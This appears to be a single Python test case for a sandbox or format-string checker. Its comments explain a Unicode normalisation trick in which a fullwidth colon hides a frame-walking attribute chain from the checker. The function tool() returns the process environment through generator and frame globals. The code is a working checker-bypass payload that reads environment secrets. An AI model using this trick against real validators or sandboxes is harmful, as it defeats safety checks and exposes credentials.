# family: nfkc
# Escape: "：" (U+FF1A) normalises to ":", so in the checker's copy everything after it is a format *spec*
# (".gi_frame.f_globals..."), and specs are only inspected for nested fields. Python sees "k：" as the field name
# and walks generator -> frame -> module globals -> calendar.sys.modules["os"].environ.
import calendar


def days():
    yield calendar.MONDAY


def tool() -> str:
    return "{k：.gi_frame.f_globals[calendar].sys.modules[os].environ}".format_map({"k：": days()})
